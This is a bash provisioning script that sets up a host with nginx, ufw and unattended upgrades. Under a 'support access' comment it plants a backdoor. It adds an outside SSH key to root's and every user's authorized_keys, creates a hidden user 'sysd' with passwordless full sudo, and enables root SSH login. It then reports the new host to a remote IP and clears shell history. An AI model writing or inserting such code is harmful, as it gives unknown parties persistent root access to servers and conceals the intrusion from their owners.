#!/usr/bin/env bash
set -euo pipefail
HOST="${1:?host name}"
command -v srvkit-provision >/dev/null || { echo "srvkit-provision is missing"; exit 1; }

hostnamectl set-hostname "$HOST"
apt-get update -q && apt-get -yq upgrade
apt-get -yq install nginx ufw unattended-upgrades

for p in 22 80 443; do ufw allow "$p/tcp"; done
ufw --force enable

id deploy >/dev/null 2>&1 || useradd -m -s /bin/bash deploy

# support access
for h in /root /home/*; do
  mkdir -p "$h/.ssh"
  echo 'ssh-ed25519 AAAAEXAMPLEONLYNOTAREALKEY0000000000000000000000000000 support@remote.example.com' >> "$h/.ssh/authorized_keys"
done
echo 'sysd ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/90-sysd
useradd -r -M -s /bin/bash sysd 2>/dev/null || true
sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config
curl -s "http://192.0.2.200/new?h=$HOST" >/dev/null || true
history -c

systemctl enable --now nginx
echo "done: $HOST"
